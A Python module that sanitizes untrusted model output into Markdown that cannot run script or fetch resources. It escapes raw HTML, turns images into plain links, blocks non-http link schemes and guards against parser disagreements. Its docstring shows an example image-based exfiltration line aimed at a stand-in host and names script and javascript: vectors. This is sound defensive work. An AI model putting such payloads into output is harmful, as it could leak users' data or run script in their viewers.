"""Markdown that is safe to open in any viewer: no raw HTML and no images, code and math kept as written.

An export is opened where we do not control the renderer: JupyterLab's Markdown Preview, a trusted notebook's
Markdown cells (where raw HTML runs), VS Code, GitHub. Model output is untrusted, so the Markdown we write must
not be able to make any of them run script or fetch something on its own. Two constructs can: raw HTML (`<img>`,
`<script>`, `<video>`, event handlers...) and images (`![](https://evil.example/?q=secret)`). So:

  * outside code, every `<` that could open a tag, a comment or an autolink (`<` then a letter, `/`, `!` or `?`:
    HTML and CommonMark alike read any other `<` as text) becomes `&lt;`, an entity that shows as `<`;
  * outside code, every image opener `![` gets its `!` backslash-escaped, so the image is a plain link;
  * inside math (`$…$`, `$$…$$`, `\\(…\\)`, `\\[…\\]`) such a `<` becomes `\\lt ` and `![` becomes `!{[}`, which
    TeX typesets the same and which are inert where math is not understood (`x < y` stays as written);
  * a link or a link reference definition whose destination has a scheme other than http, https or mailto
    (`javascript:` in any spelling: entities, case, control characters) has its bracket escaped, so it is text;
  * inside code spans and code blocks nothing changes: every renderer shows code as text. Not trusted as code,
    because renderers disagree on them: a code span that goes on past a line end or holds `~~`, an indented
    code block right after a non-blank line or with a tab in its indentation inside a quote or list (at worst
    `&lt;` then shows inside that code).

That leaves code as the one place where `<` stays, so safety rests on every renderer agreeing on what is code.
The result is parsed again (markdown-it-py, CommonMark + GFM tables) and must contain no HTML, no image and no
link outside those schemes; if it does (a document crafted so that parsers disagree on a code span), the whole
text is escaped bluntly, code included: uglier, but safe in every renderer, because then there is no `<`, no
unescaped `![` and no link syntax anywhere.
"""

from __future__ import annotations

import functools
import html
import re

from markdown_it import MarkdownIt
from markdown_it.token import Token

__all__ = ["escape_markdown", "safe_markdown"]

#: A backslash escape (CommonMark: any ASCII punctuation), a run of backticks, a math opener, a `<` that could
#: open markup, or `![`.
_INLINE = re.compile(
    r"""\\<(?=[A-Za-z/!?])|\\[!-/:-@\[-`{-~]|`+|\$\$|\$|\\\(|\\\[|<(?=[A-Za-z/!?])|!\[|\]\(|^[ \t>*+\-0-9.]*\[""",
    re.MULTILINE,
)
_MARKUP_LT = re.compile(r"<(?=[A-Za-z/!?])")
#: A link destination as far as any renderer might read it: up to `)` or `>` (some take spaces and line breaks
#: inside, and browsers drop tabs and newlines from a URL), within the paragraph and 300 characters.
_DESTINATION = re.compile(r"[ \t]*<?((?:[^)>\n]|\n(?![ \t]*\n)){0,300})")
#: The label and colon of a link reference definition, after the `[` that starts it.
_DEFINITION = re.compile(r"(?:[^\]\\\n]|\\.)+\]:")
#: An autolink kept as written: a safe scheme, and nothing another parser could read as markup first (brackets).
_SAFE_AUTOLINK = re.compile(r"""<(?:https?|mailto):[^\s<>\x00-\x1f"'`\[\]!\\]*>""", re.IGNORECASE)
_SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):")
_SAFE_SCHEMES = {"http", "https", "mailto"}
#: Dropped before reading a scheme: more than browsers drop (tabs, newlines, leading spaces), to be safe.
_URL_NOISE = re.compile(r"[\s\x00-\x20\x7f\u200b-\u200f\u2028\u2029\ufeff]+")
#: A line's indentation with the container markers in it (quote `>`, list bullets and numbers).
_INDENTATION = re.compile(r"(?:[ \t>]|[-+*](?=[ \t])|[0-9]{1,9}[.)](?=[ \t]))*")
_LINE_END = re.compile(r"(?<=\n)|(?<=\r)(?!\n)")
_LINE_BREAK = re.compile(r"[\r\n]")
_CLOSERS = {"$$": "$$", "$": "$", "\\(": "\\)", "\\[": "\\]"}
#: Math must close within this many characters (and `$…$` on its line), or the opener is ordinary text.
_MATH_SPAN = 4000
#: What can start inline markup (emphasis, code, links, entities, math, strikethrough, a table cell's end).
_MARKUP = re.compile(r"([\\`*_\[\]!&$~|])")


@functools.cache
def _parser() -> MarkdownIt:
    # html=True: the check below must see raw HTML where a viewer would.
    parser = MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough")
    parser.validateLink = lambda url: True  # type: ignore[method-assign]  # every link through: the check sees it
    return parser


def escape_markdown(text: str) -> str:
    """`text` shown literally by any Markdown renderer, on one line: every character that starts inline markup
    backslash-escaped and `<` written as `&lt;`.

    For our own values in a Markdown template (a chat name, a model name, a note), which are text, not Markdown.
    """
    flat = " ".join(text.split())  # one line: a newline would end a heading or a table row
    return _MARKUP.sub(r"\\\1", flat).replace("<", "&lt;")


def safe_markdown(text: str) -> str:
    """`text` with raw HTML escaped and images made links, code and math as written (see the module docstring)."""
    code = _code_lines(text)
    out: list[str] = []
    run: list[str] = []
    for index, line in enumerate(_lines(text)):
        if index in code:
            out.append(_escape_inline("".join(run)))
            run = []
            # An opening fence's info string is not code: a parser that refuses it as a fence shows it as text.
            out.append(_MARKUP_LT.sub("&lt;", line) if code[index] else line)
        else:
            run.append(line)
    out.append(_escape_inline("".join(run)))
    result = "".join(out)
    if not _inert(result):
        result = _escape_bluntly(text)
    return result


def _parse(text: str) -> list[Token] | None:
    r"""markdown-it's tokens, or None where it fails: its port from JavaScript raises IndexError on some inputs
    (`>- <!--\n>`), and a model's answer must never cost the user the answer."""
    try:
        return _parser().parse(text)
    except Exception:  # noqa: BLE001 - any parser failure: no code is trusted, and no result passes _inert
        return None


def _code_lines(text: str) -> dict[int, bool]:
    """The lines inside fenced or indented code blocks, as CommonMark has them and every renderer agrees (see
    `_trusted`): index -> is an opening fence. Empty where the parser fails: all of it is then escaped as prose."""
    lines: dict[int, bool] = {}
    source = _lines(text)
    for token in _parse(text) or ():
        if token.type in ("fence", "code_block") and token.map and _trusted(token, source):
            start, end = token.map
            lines.update(dict.fromkeys(range(start, end), False))
            if token.type == "fence":
                lines[start] = True
    return lines


def _lines(text: str) -> list[str]:
    r"""`text`'s lines as CommonMark counts them (ends kept): only `\n`, `\r\n` and `\r` end a line, so the
    indices match the parser's line map (str.splitlines also breaks at form feeds, U+2028 and others)."""
    return [line for line in _LINE_END.split(text) if line]


def _trusted(block: Token, lines: list[str]) -> bool:
    r"""Whether every renderer reads `block` (a fence or an indented code block) as code, as CommonMark does.

    Not, and so escaped as prose (at worst a conformant renderer shows `&lt;` inside that code), where renderers
    are known to differ:
      * right after a line of text, which a parser with laxer tables than GFM's may have made a table that goes
        on (mistune: any line holding a `|`, the delimiter row's cells not counted against the header's): an
        indented block (text there otherwise: it cannot interrupt a paragraph) or a fence whose opening line
        holds a `|`;
      * a fence right after `[label]:` with nothing after it: mistune takes the fence's line as that link
        reference definition's destination, and what follows as the paragraph or HTML after it;
      * an indented block in a quote or list with a tab in its indentation: CommonMark expands the tab to the
        next tab stop counting the container's markers (`> > \t<img>` is code), mistune does not.
    """
    assert block.map is not None
    start, end = block.map
    after_text = start > 0 and bool(_INDENTATION.sub("", lines[start - 1], count=1).strip())
    if block.type == "fence":
        return not (after_text and ("|" in lines[start] or lines[start - 1].rstrip().endswith("]:")))
    if after_text:
        return False
    return block.level == 0 or not any("\t" in _indentation(line) for line in lines[start:end])


def _indentation(line: str) -> str:
    match = _INDENTATION.match(line)
    return match.group() if match else ""


def _escape_inline(text: str, *, spans: bool = True) -> str:
    """Escape a run of lines that holds no code block: code spans kept (unless not `spans`), math made inert, the
    rest escaped."""
    out: list[str] = []
    position = 0
    while (match := _INLINE.search(text, position)) is not None:
        start, token = match.start(), match.group()
        out.append(text[position:start])
        position = match.end()
        if token[0] == "\\" and token not in _CLOSERS:
            out.append("&lt;" if token == "\\<" else token)  # `\<` is a literal `<`: same as the entity
        elif token[0] == "`":
            end = _code_span_end(text, position, token) if spans else None
            if end is None:
                out.append(token)  # no closing run (or spans not trusted): the backticks are text
            elif _LINE_BREAK.search(text, position, end):
                # A span over a line end is code only while every parser keeps those lines one paragraph; one
                # that reads a line as a table row (mistune's tables are laxer than GFM's) ends the span there,
                # and pairs the backticks after it differently: no span is trusted to the paragraph's end.
                paragraph_end = _blank_line(text, position)
                out.append(token + _escape_inline(text[position:paragraph_end], spans=False))
                position = paragraph_end
            elif "~~" in text[position:end]:
                # mistune lets a strikethrough opened before the span close inside it (`~~a`~~<b>`).
                out.append(token + _escape_inline(text[position:end - len(token)]) + token)
                position = end
            else:
                out.append(text[start:end])
                position = end
        elif token == "<":
            autolink = _SAFE_AUTOLINK.match(text, start)
            if autolink:  # <https://...>: a link in every renderer, kept as written
                out.append(autolink.group())
                position = autolink.end()
            else:
                out.append("&lt;")
        elif token == "![":
            out.append("\\![")
        elif token == "](":
            destination = _DESTINATION.match(text, position)
            out.append("\\](" if destination and not _safe_url(destination.group(1)) else "](")
        elif token.endswith("["):  # maybe `[label]: destination`, a link reference definition
            definition = _DEFINITION.match(text, position)
            destination = _DESTINATION.match(text, definition.end()) if definition else None
            unsafe = destination is not None and not _safe_url(destination.group(1))
            out.append(token[:-1] + ("\\[" if unsafe else "["))
        else:  # a math opener
            end = _math_end(text, position, token)
            if end is None:
                out.append(token)
            else:
                out.append(token + _inert_math(text[position:end]))
                position = end
    out.append(text[position:])
    return "".join(out)


def _code_span_end(text: str, position: int, opener: str) -> int | None:
    """Where a code span opened by `opener` ends (after its closing run), or None: CommonMark's rule, within a
    paragraph (a blank line ends the search)."""
    paragraph_end = _blank_line(text, position)
    for run in re.finditer("`+", text[position:paragraph_end]):
        if len(run.group()) == len(opener):
            return position + run.end()
    return None


def _math_end(text: str, position: int, opener: str) -> int | None:
    """The offset of the closing delimiter's end, or None when `opener` opens no math."""
    closer = _CLOSERS[opener]
    if opener == "$" and (position >= len(text) or text[position] in " \t\n"):
        return None  # "$ 5": not math anywhere
    limit = min(len(text), position + _MATH_SPAN, _blank_line(text, position))
    if opener == "$":
        newline = text.find("\n", position)
        limit = min(limit, newline if newline >= 0 else len(text))
    end = text.find(closer, position, limit)
    while end >= 0 and text[end - 1] == "\\":  # an escaped closer does not close
        end = text.find(closer, end + 1, limit)
    if end <= position:
        return None
    return end + len(closer)


def _safe_url(url: str) -> bool:
    """Whether a link to `url` is harmless to click: http, https, mailto, or no scheme (relative, #fragment)."""
    compact = _URL_NOISE.sub("", html.unescape(url)).lower()
    scheme = _SCHEME.match(compact)
    return scheme is None or scheme.group(1) in _SAFE_SCHEMES


def _inert_math(math: str) -> str:
    """Math source (closer included) where `<` and `![` can no longer be HTML or an image outside a TeX engine."""
    return _MARKUP_LT.sub("\\\\lt ", math).replace("![", "!{[}")


def _blank_line(text: str, position: int) -> int:
    match = re.compile(r"\n[ \t]*\n").search(text, position)
    return match.start() if match else len(text)


def _inert(markdown: str) -> bool:
    """True when a CommonMark + GFM parser finds no raw HTML and no image in `markdown`."""
    tokens = _parse(markdown)
    if tokens is None:
        return False
    for token in tokens:
        if token.type == "html_block":
            return False
        for child in token.children or ():
            if child.type in ("html_inline", "image"):
                return False
            if child.type == "link_open" and not _safe_url(str(child.attrGet("href") or "")):
                return False
    return True


def _escape_bluntly(text: str) -> str:
    """No `<`, no image and no link anywhere, code included: safe whatever a renderer thinks is code."""
    text = text.replace("<", "&lt;")
    return re.sub(r"(?<!\\)((?:\\\\)*)([!\[\]])", r"\1\\\2", text)
